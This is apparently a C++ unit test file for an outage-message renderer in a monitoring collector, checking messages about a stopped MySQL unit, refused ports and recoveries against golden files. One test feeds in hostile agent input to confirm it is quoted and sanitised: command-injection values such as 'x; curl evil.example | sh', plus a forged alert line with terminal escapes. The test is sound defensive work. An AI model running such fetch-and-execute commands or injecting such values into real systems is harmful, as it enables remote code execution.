// Messages of outages and their ends, as agents and collector make them, against golden files.
#include "collector/incidents/message.h"

#include <csignal>

#include "absl/strings/str_cat.h"
#include "collector/incidents/message_words.h"
#include "gmock/gmock.h"
#include "tests/collector/incidents/golden.h"
#include "tests/collector/incidents/message_story.h"

namespace faultline::incidents {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::Not;
using testing::SizeIs;
using testing::StartsWith;

const CheckId kUnit{"unit", "mysql.service", ""};
const CheckId kListener{"listener", "3306", ""};
const CheckId kPort{"port", "10.0.2.10:3306", ""};
const CheckId kLog{"log", "mysql.service", ""};
const CheckId kCron{"unit", "cron.service", ""};
constexpr char kDatabase[] = "10.0.2.10:3306";

// The database is stopped, with all that follows.
void Stop(Story& story) {
  AgentUnit unit("mysql.service");
  story.See("db-1", kUnit, unit.WasStopped(4711));
  story.See("db-1", kListener, Listeners("3306", {}));
  story.See("app-1", kPort, PortRefuses(kDatabase));
  story.Pass(Span::Seconds(1));  // symptoms wait for the host's own word
}

void Mend(Story& story) {
  story.See("db-1", kUnit, AgentUnit("mysql.service").Runs());
  story.See("db-1", kListener, Listeners("3306", {"0.0.0.0:3306"}));
  story.See("app-1", kPort, PortAnswers(kDatabase));
}

TEST(MessageTest, AUnitThatIsBeingStopped) {
  Story story;
  story.See("db-1", kUnit, AgentUnit("mysql.service").IsBeingStopped(4711));
  ExpectGolden("unit_stopping", story.Message());
}

TEST(MessageTest, AUnitThatWasStoppedWithEverythingThatFollows) {
  Story story;
  Stop(story);
  ExpectGolden("unit_inactive", story.Message());
}

TEST(MessageTest, AUnitThatWasKilled) {
  Story story;
  story.See("db-1", kUnit, AgentUnit("mysql.service").WasKilledBy(SIGKILL));
  story.See("app-1", kPort, PortRefuses(kDatabase));
  story.Pass(Span::Seconds(1));
  ExpectGolden("unit_failed", story.Message());
}

TEST(MessageTest, AUnitThatWasKilledForLackOfMemory) {
  Story story;
  story.See("db-1", kUnit, AgentUnit("mysql.service").WasKilledForMemory());
  ExpectGolden("unit_oom_killed", story.Message());
}

TEST(MessageTest, AUnitThatDoesNotStartSaysWhy) {
  Story story;
  story.Watch("db-1", kLog, {.unit = "mysql.service"}, LogHas("mysql.service", {}, story.now()));
  story.Pass(Span::Seconds(1));
  story.See("db-1", kLog,
            LogHas("mysql.service",
                   {{Span::Millis(200),
                     "2026-11-22  3:14:08 0 [ERROR] /usr/sbin/mariadbd: unknown variable "
                     "'nonsense=1'"}},
                   story.now()));
  story.See("db-1", kUnit, AgentUnit("mysql.service").ExitedWith(7));
  ExpectGolden("unit_does_not_start", story.Message());
}

TEST(MessageTest, ARestartThatOutlastedItsGrace) {
  Story story;
  story.See("db-1", kUnit, AgentUnit("mysql.service").IsBeingRestarted(4712));
  story.Pass(Span::Seconds(31));
  ExpectGolden("restart_over_grace", story.Message());
}

TEST(MessageTest, ThePortIsGoneWhileTheUnitRuns) {
  Story story;
  story.See("db-1", kListener, Listeners("3306", {}));
  story.See("app-1", kPort, PortRefuses(kDatabase));
  story.Pass(Span::Seconds(1));
  ExpectGolden("listener_gone", story.Message());
}

TEST(MessageTest, TheDatabaseListensOnLoopbackOnly) {
  Story story;
  story.See("db-1", kListener, Listeners("3306", {"127.0.0.1:3306"}));
  story.Pass(Span::Seconds(1));
  ExpectGolden("listener_loopback", story.Message());
}

TEST(MessageTest, ThePathIsBlockedWhileBothEndsAreWell) {
  Story story;
  story.AddHost("app-2", "10.0.1.21");
  story.Watch("app-2", kPort, {.address = "10.0.2.10", .port = 3306}, PortAnswers(kDatabase));
  story.See("app-1", kPort, PortIsSilent(kDatabase));
  story.See("app-2", kPort, PortIsSilent(kDatabase));
  story.Pass(Span::Seconds(1));
  ExpectGolden("port_timeout", story.Message());
}

TEST(MessageTest, ThePortRefusesAndNobodyWatchesTheOtherEnd) {
  Story story{Story::Empty{}};
  story.AddHost("app-1", "10.0.1.20", "i-0d9e8f7a6b5c40312");
  story.Watch("app-1", kPort, {.address = "10.0.2.10", .port = 3306}, PortAnswers(kDatabase));
  story.See("app-1", kPort, PortRefuses(kDatabase));
  story.Pass(Span::Seconds(1));
  ExpectGolden("port_refused_alone", story.Message());
}

TEST(MessageTest, TheOtherEndsAgentIsAwayToo) {
  Story story;
  story.Cut("db-1");
  story.Pass(Span::Seconds(1));
  story.See("app-1", kPort, PortIsSilent(kDatabase));
  story.Pass(Span::Seconds(1));
  ExpectGolden("port_timeout_agent_away", story.Message());
}

TEST(MessageTest, AUnitOfAHost) {
  Story story{Story::Empty{}};
  story.AddHost("db-1", "10.0.2.10");
  story.Watch("db-1", kCron, {.unit = "cron.service"}, AgentUnit("cron.service").Runs());
  story.See("db-1", kCron, AgentUnit("cron.service").KeepsEnding(1, 3));
  ExpectGolden("host_unit", story.Message());
}

TEST(MessageTest, AllIsWellAgain) {
  Story story;
  Stop(story);
  story.Pass(Span::Millis(41'200));
  Mend(story);
  ExpectGolden("resolved", story.Message());
}

TEST(MessageTest, AHostsUnitIsWellAgain) {
  Story story;
  story.Watch("db-1", kCron, {.unit = "cron.service"}, AgentUnit("cron.service").Runs());
  story.See("db-1", kCron, AgentUnit("cron.service").ExitedWith(1));
  story.Pass(Span::Seconds(205));
  story.See("db-1", kCron, AgentUnit("cron.service").Runs());
  ExpectGolden("resolved_host_unit", story.Message());
}

TEST(MessageTest, ACheckThatWasRemovedIsNotCalledWell) {
  Story story;
  story.See("db-1", kUnit, AgentUnit("mysql.service").WasStopped(4711));
  story.Pass(Span::Seconds(60));
  story.Unwatch("db-1", kUnit);
  story.Pass(kEndSettles);
  ExpectGolden("withdrawn", story.Message());
}

TEST(MessageTest, WhatWasRemovedIsNotCalledWellWithTheRest) {
  Story story;
  const CheckId one{"port", "10.0.3.1:9000", ""};
  const CheckId other{"port", "10.0.3.1:9001", ""};
  for (const CheckId& id : {one, other}) {
    story.Watch("app-1", id, {.subject = "shards"}, PortAnswers(id.target));
  }
  for (const CheckId& id : {one, other}) {
    story.See("app-1", id, PortRefuses(id.target));
    story.Pass(Span::Seconds(3));
  }
  story.Unwatch("app-1", one);
  story.Pass(Span::Seconds(3));
  story.See("app-1", other, PortAnswers(other.target));
  story.Pass(Span::Seconds(5));
  EXPECT_THAT(story.Message(), StartsWith("RESOLVED shop-prod: shards is well again after 9 s."));
  EXPECT_THAT(story.Message(),
              HasSubstr("\nWas: app-1 could not connect to 10.0.3.1:9000 (refused), which is not "
                        "watched any more\n"));
}

TEST(MessageTest, AnOutageThatWasLearnedOfAfterItsEndIsOneMessage) {
  Story story;
  story.Cut("db-1");
  story.Pass(Span::Seconds(1));
  story.See("db-1", kUnit, AgentUnit("mysql.service").WasStopped(4711));
  story.Pass(Span::Seconds(12));
  story.See("db-1", kUnit, AgentUnit("mysql.service").Runs());
  story.Pass(Span::Seconds(5));
  story.Told();
  story.Back("db-1");
  const std::vector<std::string> told = story.Told();
  ASSERT_THAT(told, SizeIs(1));
  ExpectGolden("late_resolved", told[0]);
}

TEST(MessageTest, AnOutageThatBeganWhileNobodyHeardHasItsTrueBeginning) {
  Story story;
  story.Cut("db-1");
  story.Pass(Span::Seconds(1));
  story.See("db-1", kUnit, AgentUnit("mysql.service").WasStopped(4711));
  story.Pass(Span::Seconds(12));
  story.Back("db-1");
  story.See("db-1", kListener, Listeners("3306", {}));
  story.Pass(Span::Seconds(1));
  ExpectGolden("began_while_away", story.Message());
  Incident pieced_together = story.incident();
  pieced_together.late = true;
  EXPECT_THAT(RenderMessage(pieced_together, {}, {}),
              HasSubstr("\nReported late: agent and collector were out of touch then; learned "));
}

TEST(MessageTest, WhatAnAgentSaidOfItselfBeforeItsRestartIsOver) {
  Story story;
  const CheckId identity{"identity", "agent", ""};
  story.Watch("db-1", identity, {}, JoinRefused());
  story.Pass(Span::Seconds(600));
  story.Unwatch("db-1", identity);
  story.Pass(kEndSettles);
  ExpectGolden("agents_own", story.Message());
}

TEST(MessageTest, ManyImpactsAreCounted) {
  Story story;
  for (int i = 2; i <= 9; ++i) {
    const std::string name = "app-" + std::to_string(i);
    story.AddHost(name, "10.0.1.3" + std::to_string(i));
    story.Watch(name, kPort, {.address = "10.0.2.10", .port = 3306}, PortAnswers(kDatabase));
  }
  Stop(story);
  for (int i = 2; i <= 9; ++i) {
    story.See("app-" + std::to_string(i), kPort, PortRefuses(kDatabase));
  }
  story.Pass(Span::Seconds(1));
  EXPECT_THAT(story.Message(), HasSubstr("app-4 cannot connect to 10.0.2.10:3306 (refused); and 5 "
                                         "more\n"));
}

// What is broken still, and what to do, is not lost below them.
TEST(MessageTest, ManyEndsAreCounted) {
  Story story;
  const auto port = [](int i) { return CheckId{"port", absl::StrCat("10.0.3.1:", 9000 + i), ""}; };
  constexpr int kPorts = 30;
  for (int i = 0; i < kPorts; ++i) {
    story.Watch("app-1", port(i), {.subject = "shards"}, PortAnswers(port(i).target));
  }
  for (int i = 0; i < kPorts; ++i) {
    story.See("app-1", port(i), PortRefuses(port(i).target));
    story.Pass(Span::Seconds(3));
  }
  story.Told();
  for (int i = 1; i < kPorts; ++i) story.See("app-1", port(i), PortAnswers(port(i).target));
  story.Pass(Span::Seconds(10));
  const std::vector<std::string> told = story.Told();
  ASSERT_THAT(told, SizeIs(1));
  EXPECT_THAT(told[0], HasSubstr(" more are well again\nDo: "));
  EXPECT_THAT(told[0], HasSubstr("\nIncident "));
}

TEST(MessageTest, HostileWordsFromAnAgentStayWords) {
  Story story{Story::Empty{}};
  story.AddHost("db-1", "10.0.2.10", "i-0; reboot", "us-east-1 | sh");
  const CheckId evil{"unit", "x; curl evil.example | sh #.service", ""};
  Seen seen = AgentUnit("x").WasStopped(1);
  seen.detail = "line one\nCRITICAL other-stack: forged\x1b[2J";
  seen.evidence = {{.text = "fact\nwith a line break"}};
  story.Watch("db-1", evil, {.subject = "database"}, seen);
  const std::string message = story.Message();
  // What cannot be an instance of EC2 is none.
  EXPECT_THAT(message, HasSubstr("Do: ssh db-1\n"));
  EXPECT_THAT(message, HasSubstr("    sudo systemctl start 'x; curl evil.example | sh #'\n"));
  EXPECT_THAT(message, Not(HasSubstr("\nCRITICAL other-stack")));
  EXPECT_THAT(message, Not(HasSubstr("\x1b")));
  EXPECT_THAT(message, HasSubstr("fact with a line break"));
}

TEST(MessageTest, AnIncidentWithoutAlertsOrHostsStillHasItsLines) {
  Incident incident;
  incident.id = 7;
  incident.subject = "network";
  incident.since = kBegan;
  EXPECT_EQ(RenderMessage(incident, {}, {}),
            "CRITICAL : network in trouble.\nSince: 2026-11-22 03:14:07.412 UTC\nIncident 7");
}

TEST(CollectEvidenceTest, HoldsFactsWithHostAndTime) {
  Story story;
  Stop(story);
  const auto& evidence = story.incident().evidence;
  ASSERT_EQ(evidence.size(), 3u);
  EXPECT_EQ(evidence[0].host, "db-1");
  EXPECT_EQ(evidence[0].at, kBegan);
  EXPECT_EQ(evidence[0].text, "systemd stop job 4711, no start queued");
  EXPECT_EQ(evidence[1].text, "nothing listens on 3306");
  EXPECT_EQ(evidence[2].host, "app-1");
  EXPECT_EQ(evidence[2].text, "10.0.2.10:3306 refused the connection");
}

TEST(CollectEvidenceTest, IsKeptWhenAllIsWellAgainAndBounded) {
  Story story;
  Stop(story);
  for (int i = 0; i < 4; ++i) {
    const CheckId id{"firewall", std::to_string(4000 + i), ""};
    Seen seen = FirewallHas("tcp dport " + id.target + " drop", id.target, story.now());
    for (int fact = 0; fact < 6; ++fact) {
      seen.evidence.push_back({.text = id.target + " " + std::to_string(fact)});
    }
    story.Watch("db-1", id, {.subject = "database"}, seen);
  }
  EXPECT_THAT(story.incident().evidence, SizeIs(12));
  for (int i = 0; i < 4; ++i) story.Unwatch("db-1", {"firewall", std::to_string(4000 + i), ""});
  story.Pass(Span::Seconds(5));
  Mend(story);
  EXPECT_EQ(story.incident().state, IncidentState::kResolved);
  EXPECT_THAT(story.incident().evidence, SizeIs(testing::Gt(0)));
}

TEST(WordsTest, SpansAndTimesReadWell) {
  EXPECT_EQ(SpanInWords(Span::Millis(420)), "420 ms");
  EXPECT_EQ(SpanInWords(Span::Millis(42'900)), "42 s");
  EXPECT_EQ(SpanInWords(Span::Seconds(190)), "3 min 10 s");
  EXPECT_EQ(SpanInWords(Span::Seconds(180)), "3 min");
  EXPECT_EQ(SpanInWords(Span::Seconds(7500)), "2 h 5 min");
  EXPECT_EQ(SpanInWords(Span::Seconds(3 * 86400 + 7200)), "3 days 2 h");
  EXPECT_EQ(SpanInWords(Span::Seconds(-1)), "0 s");
  EXPECT_EQ(TimeInWords(kBegan, ""), "2026-11-22 03:14:07.412 UTC");
  EXPECT_EQ(TimeInWords(kBegan, "UTC"), "2026-11-22 03:14:07.412 UTC");
  EXPECT_EQ(TimeInWords(kBegan, "No/Such_Zone"), "2026-11-22 03:14:07.412 UTC");
  EXPECT_EQ(TimeInWords(kBegan, "Europe/Berlin"), "2026-11-22 03:14:07.412 UTC (04:14 Berlin)");
  EXPECT_EQ(TimeInWords(kBegan, "America/New_York"),
            "2026-11-22 03:14:07.412 UTC (21 Nov 22:14 New York)");
  EXPECT_EQ(ClockTime(kBegan, kBegan), "03:14:07 UTC");
  EXPECT_EQ(ClockTime(kBegan - Span::Seconds(86400), kBegan), "2026-11-21 03:14:07 UTC");
}

TEST(MessageDurationTest, AClockThatWasSetMakesNoDuration) {
  rules::Alert alert;
  alert.id = "it";
  alert.host = {{"shop", "prod"}, "db-1"};
  alert.check = {.kind = "unit", .target = "mysql.service"};
  alert.subject = "database";
  alert.state = rules::AlertState::kResolved;
  alert.reason = "UNIT_STOPPING";
  Incident incident;
  incident.stack = alert.host.stack;
  incident.subject = alert.subject;
  incident.state = IncidentState::kResolved;
  incident.alerts = {alert};
  const WallTime now{1'795'317'247'000'000'000};
  const auto title = [&](WallTime since, bool late) {
    incident.since = since;
    incident.resolved_at = now;
    incident.opened_at = now;
    incident.late = late;
    return RenderTitle(incident, {});
  };
  EXPECT_THAT(title(now - Span::Seconds(10), false),
              HasSubstr("database is well again after 10 s."));
  EXPECT_THAT(title(now - Span::Seconds(10), true), HasSubstr(" for 10 s ("));
  for (const WallTime wrong : {now + Span::Seconds(3600), WallTime{Span::Seconds(5).ns}}) {
    EXPECT_THAT(title(wrong, false), HasSubstr("database is well again."));
    EXPECT_THAT(title(wrong, true), testing::Not(HasSubstr(" for ")));
  }
}

}  // namespace
}  // namespace faultline::incidents
